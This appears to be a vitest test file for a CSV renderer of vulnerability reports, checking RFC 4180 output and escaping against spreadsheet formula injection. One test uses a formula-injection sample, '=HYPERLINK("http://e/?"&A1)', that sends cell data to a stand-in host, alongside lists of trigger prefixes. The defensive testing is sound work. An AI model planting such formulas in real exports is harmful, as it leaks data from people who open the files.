import { text } from 'node:stream/consumers';
import { expect, it, vi } from 'vitest';
import { aLargeReport, anEmptyReport, aSmallReport } from '../../../test/support/some-reports.ts';
import { csvLine } from './csv-line.ts';
import { renderCsv } from './render-csv.ts';

// Large reports on a busy machine.
vi.setConfig({ testTimeout: 60_000 });

/** A reader of RFC 4180 by its grammar, which throws where a file breaks it. */
function read(csv: string): string[][] {
  const records: string[][] = [];
  let at = 0;
  while (at < csv.length) {
    const record: string[] = [];
    for (;;) {
      const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
      cell.lastIndex = at;
      const found = cell.exec(csv);
      if (found === null) throw new Error(`No CSV at ${at}: ${csv.slice(at, at + 60)}`);
      record.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '');
      at = cell.lastIndex;
      if (found[3] === '\r\n') break;
    }
    records.push(record);
  }
  return records;
}

it.each([
  ['small', aSmallReport(), 7],
  ['large', aLargeReport(2500), 2500],
  ['empty', anEmptyReport(), 0],
])('writes a %s file by the grammar of RFC 4180, every line of the same length', async (_, report, count) => {
  const [head, ...records] = read(await text(renderCsv(report)));
  expect(records).toHaveLength(count);
  expect(new Set(records.map(({ length }) => length)).size).toBeLessThanOrEqual(1);
  expect(records[0]?.length ?? head?.length).toBe(head?.length);
});

it('lets no spreadsheet calculate what a host or a feed says', async () => {
  for (const record of read(await text(renderCsv(aLargeReport(300))))) {
    for (const cell of record) expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@]/u);
  }
  for (const start of ['=', '+', '-', '@', '\t=', '\r=', ' =', '\n@', '＝', '\u200b=', '|']) {
    expect(csvLine([`${start}1+1`])).toMatch(/^"?'/u);
  }
  expect(csvLine(['a=1', -1, null, true])).toBe('a=1,-1,,true\r\n');
});

it('lets none calculate where semicolons part the cells', () => {
  expect(csvLine(['nginx;=HYPERLINK("http://e/?"&A1)'])).toBe(`"nginx;'=HYPERLINK(""http://e/?""&A1)"\r\n`);
  for (const start of ['=', '+', '-', '@', '\t=', ' \u200b=', '＝', '"=', ';=', "' +"]) {
    const cells = csvLine([`a;${start}1+1`, 'b'])
      .split(/[;,]/u)
      .slice(1, -1);
    expect(cells.filter((cell) => /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝]/u.test(cell))).toEqual([]);
  }
  expect(csvLine(['a\t=1', 'a; b; c-d;'])).toBe('a =1,a; b; c-d;\r\n');
});

it('names who decided, and is the same bytes for the same report', async () => {
  const csv = await text(renderCsv(aSmallReport()));
  const [head = [], ...records] = read(csv);
  const mitigated = records.find((record) => record.includes('CVE-2023-48795')) ?? [];
  expect(mitigated[head.indexOf('status')]).toBe('affected');
  expect(mitigated[head.indexOf('decision_reason')]).toBe('The cipher is switched off.');
  expect(await text(renderCsv(aSmallReport()))).toBe(csv);
});
